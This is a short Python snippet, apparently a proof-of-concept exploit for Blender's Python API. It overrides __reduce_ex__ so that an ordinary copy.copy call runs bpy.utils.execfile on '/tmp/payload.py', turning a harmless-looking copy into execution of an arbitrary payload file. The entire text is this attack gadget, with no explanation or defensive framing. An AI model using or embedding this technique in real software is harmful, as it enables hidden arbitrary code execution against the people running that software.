import copy, bpy
class P:
    def __reduce_ex__(self, proto):
        return (bpy.utils.execfile, ("/tmp/payload.py",))
copy.copy(P())
